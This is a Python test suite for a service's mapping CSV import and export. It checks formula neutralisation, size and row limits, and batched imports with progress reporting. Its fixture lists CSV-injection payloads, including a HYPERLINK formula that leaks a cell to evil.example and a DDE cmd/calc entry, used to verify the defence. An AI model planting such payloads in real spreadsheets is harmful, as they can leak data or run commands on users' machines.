"""Mapping CSV under hostile input: formulas never run in a spreadsheet, files are capped in
bytes and rows, and a big import goes in committed batches with the API answering meanwhile."""

from __future__ import annotations

import asyncio
import json
import time
from typing import Any

import pytest
import sqlalchemy as sa
from sqlmodel import col

from app.mappings import service
from app.models import Mapping
from tests.api.conftest import OPERATOR, Gateway
from tests.api.test_mappings_csv import CSV, export, import_csv, rows_of

FORMULAS = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': "1",
    "+cmd|' /C calc'!A0": "2",
    "-2+3": "3",
    "@SUM(A1:A9)": "4",
    "\tTAB": "5",
    "\rCR": "6",
    "'=already quoted": "7",
    "''+twice": "8",
    "plain": "=1+1",
    "it's fine": "-",
    "'plain'": "@",
}


async def test_export_neutralises_formulas_and_import_round_trips(gw: Gateway) -> None:
    response = await gw.write("PUT", "/mappings/sku/erp", json={"entries": FORMULAS})
    assert response.status_code == 200, response.text

    rows = rows_of((await export(gw, "sku", "erp")).text)[1:]
    for row in rows:
        for cell in row:
            # what a spreadsheet would run starts with ' instead
            assert not cell.startswith(service.FORMULA_START), row
    cells = dict(rows)
    assert cells['\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'] == "1"
    assert cells["'-2+3"] == "3" and cells["'\tTAB"] == "5" and cells["'\rCR"] == "6"
    assert cells["''=already quoted"] == "7"  # its own ' survives the way back
    assert cells["plain"] == "'=1+1" and cells["it's fine"] == "'-" and cells["'plain'"] == "'@"

    # export → import gives exactly the same keys
    exported = await export(gw, "sku", "erp")
    imported = await import_csv(gw, "sku", "shop", exported.content)
    assert imported.status_code == 200, imported.text
    listed = await gw.pages("/mappings/sku/shop", limit=500)
    assert {i["our_key"]: i["their_key"] for i in listed} == {
        **FORMULAS,
        "SKU-RED-M": "1042",
        "SKU-BLUE-L": "959",
    }


async def test_import_takes_exactly_one_guarding_quote_off(gw: Gateway) -> None:
    body = "our_key,their_key\n'=A,'+1\n'B,'C\n''-D,x\n"
    response = await import_csv(gw, "location", "erp", body)
    assert response.status_code == 200, response.text
    items = (await gw.ok("/mappings/location/erp"))["items"]
    assert {i["our_key"]: i["their_key"] for i in items} == {
        "=A": "+1",  # the export's guard, taken off
        "'B": "'C",  # no formula behind it: the ' is the key's own
        "'-D": "x",
    }


async def test_a_file_over_8_mib_is_413(gw: Gateway) -> None:
    line = b"K" * 200 + b"," + b"V" * 200 + b"\n"
    body = b"our_key,their_key\n" + line * (8 * 1024 * 1024 // len(line) + 1)
    assert len(body) > 8 * 1024 * 1024
    response = await import_csv(gw, "location", "erp", body)
    assert response.status_code == 413, response.text[:300]
    assert response.json()["error"]["code"] == "payload_too_large"
    assert (await gw.ok("/mappings/location/erp"))["items"] == []


async def test_a_file_over_100000_rows_is_422(gw: Gateway) -> None:
    body = "our_key,their_key\n" + "".join(f"K{n},{n}\n" for n in range(100_001))
    response = await import_csv(gw, "location", "erp", body)
    assert response.status_code == 422, response.text[:300]
    error = response.json()["error"]
    assert (
        "more than 100000 entries" in error["message"] and "nothing was stored" in error["message"]
    )
    assert (await gw.ok("/mappings/location/erp"))["items"] == []


async def count_entries(gw: Gateway, kind: str) -> int:
    async with gw.rt.sessions() as session:
        found = await session.scalar(
            sa.select(sa.func.count()).select_from(Mapping).where(col(Mapping.kind) == kind)
        )
    return int(found or 0)


async def test_a_big_import_goes_in_batches_with_progress_and_the_api_answers(
    gw: Gateway,
) -> None:
    total = 50_000
    body = "our_key,their_key\n" + "".join(f"SKU-{n:06d},{n}\n" for n in range(total))
    seen_counts: list[int] = []
    latencies: list[float] = []

    async def do_import() -> list[dict[str, object]]:
        response = await gw.client.post(
            "/api/v1/mappings/shipping_method/erp/import",
            content=body.encode(),
            headers={**OPERATOR, **CSV, "Accept": "application/x-ndjson"},
            timeout=60,
        )
        assert response.status_code == 200, response.text[:300]
        assert response.headers["content-type"].startswith("application/x-ndjson")
        return [json.loads(line) for line in response.text.splitlines()]

    started = time.monotonic()
    task = asyncio.create_task(do_import())
    while not task.done():
        t0 = time.monotonic()
        reply = await gw.get("/deliveries", limit=1)
        latencies.append(time.monotonic() - t0)
        assert reply.status_code == 200
        seen_counts.append(await count_entries(gw, "shipping_method"))
        await asyncio.sleep(0.02)
    lines = await task
    elapsed = time.monotonic() - started

    # generous bounds: the suite shares 2 cores with Postgres; the promise is that the import
    # is batched and never holds the API for its whole length, not a speed target
    assert elapsed < 45, f"a 50 000-line import took {elapsed:.1f} s"
    # the API answered all along: no request waited for more than a fraction of the import
    assert len(latencies) >= 3 and max(latencies) < min(5.0, elapsed / 2), (elapsed, latencies)
    # batches were committed one by one: others saw the table fill up
    assert any(0 < c < total for c in seen_counts), seen_counts
    # one progress line per committed batch, then the result
    upserts = [line for line in lines if line["stage"] == "upsert"]
    assert len(upserts) == total // service.IMPORT_BATCH
    assert [u["done"] for u in upserts] == list(range(1000, total + 1, 1000))
    assert all(u["total"] == total for u in upserts)
    assert lines[-1] == {
        "stage": "done",
        "result": {"updated": total, "deleted": 0, "released_deliveries": []},
    }
    assert await count_entries(gw, "shipping_method") == total


async def test_replace_deletes_in_batches_and_reports_them(gw: Gateway) -> None:
    keep = {f"K{n:05d}": str(n) for n in range(1500)}
    old = {f"OLD{n:05d}": "x" for n in range(2500)}
    await import_csv(
        gw,
        "shipping_method",
        "erp",
        "our_key,their_key\n" + "".join(f"{k},{v}\n" for k, v in old.items()),
    )
    response = await gw.client.post(
        "/api/v1/mappings/shipping_method/erp/import",
        params={"replace": "true"},
        content=("our_key,their_key\n" + "".join(f"{k},{v}\n" for k, v in keep.items())).encode(),
        headers={**OPERATOR, **CSV, "Accept": "application/x-ndjson"},
    )
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert [(line["stage"], line.get("done")) for line in lines] == [
        ("upsert", 1000),
        ("upsert", 1500),
        ("delete", 1000),
        ("delete", 2000),
        ("delete", 2500),
        ("done", None),
    ]
    assert lines[-1]["result"] == {"updated": 1500, "deleted": 2500, "released_deliveries": []}
    assert await count_entries(gw, "shipping_method") == 1500


async def test_a_failure_half_way_is_the_last_progress_line(
    gw: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls = 0
    real = service.upsert_entries

    async def fails_on_the_second_batch(*args: Any, **kwargs: Any) -> int:
        nonlocal calls
        calls += 1
        if calls == 2:
            raise RuntimeError("disk full")
        return await real(*args, **kwargs)

    monkeypatch.setattr(service, "upsert_entries", fails_on_the_second_batch)
    body = "our_key,their_key\n" + "".join(f"K{n:05d},{n}\n" for n in range(2500))
    response = await gw.client.post(
        "/api/v1/mappings/shipping_method/erp/import",
        content=body.encode(),
        headers={**OPERATOR, **CSV, "Accept": "application/x-ndjson"},
    )
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert lines[0] == {"stage": "upsert", "done": 1000, "total": 2500}
    assert lines[-1]["stage"] == "failed"
    assert "import the file again" in lines[-1]["error"]["message"]
    assert lines[-1]["error"]["request_id"] == response.headers["x-request-id"]
    assert await count_entries(gw, "shipping_method") == 1000  # the first batch stays
